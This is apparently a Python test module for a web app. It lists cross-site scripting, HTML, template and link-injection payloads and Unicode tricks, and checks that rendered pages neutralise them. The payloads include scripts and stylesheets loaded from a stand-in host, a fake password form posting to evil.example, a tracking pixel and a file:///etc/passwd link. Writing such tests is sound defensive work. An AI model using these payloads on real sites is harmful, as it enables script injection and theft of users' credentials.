"""What people try in order to make a page do something: tried wherever words are shown."""

from collections.abc import Iterator
from urllib.parse import urlsplit

from bs4 import Tag

from tests.pages import Page

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    '" onmouseover="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</div></main><form action=https://evil.example><input name=password>",
    "<a href='https://evil.example' onclick='x()'>a</a>",
    "<a href=javascript:alert(1)>a</a>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<button formaction=javascript:alert(1) form=write>press</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<!-- a comment that swallows the page",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<span class=mention onclick=alert(1)>@leader</span>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
TEMPLATES = (
    "{{ 7 * 7777 }} {% raw %}",
    "{{ config.items() }}",
    "{% include 'errors/error.html' %}",
    "${7*7777} #{7*7777} <%= 7*7777 %>",
    "%(name)s %s {0} {name}",
)
LINKS = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( \x01javascript:alert(1))",
    "[click](javascript://example.org/%0aalert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "[click](blob:https://evil.example/1)",
    "[click](view-source:https://example.org)",
    '[a](https://x.example/"onmouseover=alert(1))',
    "[a](https://x.example 'title\" onmouseover=alert(1)')",
    '[a](https://x.example "</a><script>alert(1)</script>")',
    "[a](https://x.example/<script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "[a]: javascript:alert(1)\n\n[a]",
    "![image](https://evil.example/pixel.png)",
    "[![image](https://evil.example/pixel.png)](https://x.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://x.example/?<script>alert(1)</script>>",
    "[@leader](javascript:alert(1)) @leader",
)
STRUCTURE = (
    "# A heading of the first rank",
    "A heading\n===",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
    "```js onload=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script> | x |",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "99999999999999999999. one",
)
SIGNS = (
    "\u202eevil\u202c and \u2066so\u2069 on",
    "&#x202e;evil by an entity",
    "&#0; &#xD800; &#x110000;",
    "\u0338<script>alert(1)</script>",
    "&#x338;&#x338; at the start",
    "a" + "\u0301\u0489" * 60,
    "a" + "&#x301;" * 60,
    "zero\u200bwidth\u200d\u200d\u200d\ufeff",
    "\U000e0041\U000e0042 tags",
    "Łooks lіke Latin",
    "🏳️‍🌈",
    "w" * 300,
)
ATTACKS = (*MARKUP, *TEMPLATES, *LINKS, *STRUCTURE, *SIGNS)
NOT_IN_A_PAGE = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff\x00"
ALLOWED_IN_COMMENTS = {
    "p": set(), "br": set(), "em": set(), "strong": set(), "s": set(), "code": set(),
    "pre": set(), "blockquote": set(), "ul": set(), "ol": {"start"}, "li": set(), "hr": set(),
    "a": {"href", "rel"}, "span": {"class"},
}  # fmt: skip


def harm_in(page: Page) -> Iterator[str]:
    """Everything on a page that somebody's words must not bring about."""
    for tag in page.all("*"):
        yield from _harm_of(tag)
    for tag in page.all(".comment-body *"):
        if not set(tag.attrs) <= ALLOWED_IN_COMMENTS.get(tag.name, set()) or (
            tag.name not in ALLOWED_IN_COMMENTS
        ):
            yield f"a comment holds {tag}"
    if len(page.all("h1")) != 1 or len(page.all("main")) != 1:
        yield "the page's outline has changed"
    yield from (f"the page holds {sign!r}" for sign in NOT_IN_A_PAGE if sign in page.text)
    if str(7 * 7777) in page.words("main"):
        yield "a template was at work"


def _harm_of(tag: Tag) -> Iterator[str]:
    if tag.name in {"iframe", "object", "embed", "base", "style", "math", "video", "img", "svg"}:
        yield f"{tag.name}"
    for name, value in tag.attrs.items():
        if name.startswith("on") or name in {"style", "srcdoc", "http-equiv"}:
            yield f"{tag.name} has {name}"
        if name in {"href", "src", "action", "formaction"} and not _is_harmless(tag, str(value)):
            yield f"{tag.name} leads to {value}"


def _is_harmless(tag: Tag, address: str) -> bool:
    parts = urlsplit(address)
    if tag.name == "a":
        return parts.scheme in {"", "http", "https", "mailto"}
    return not parts.scheme and not parts.netloc
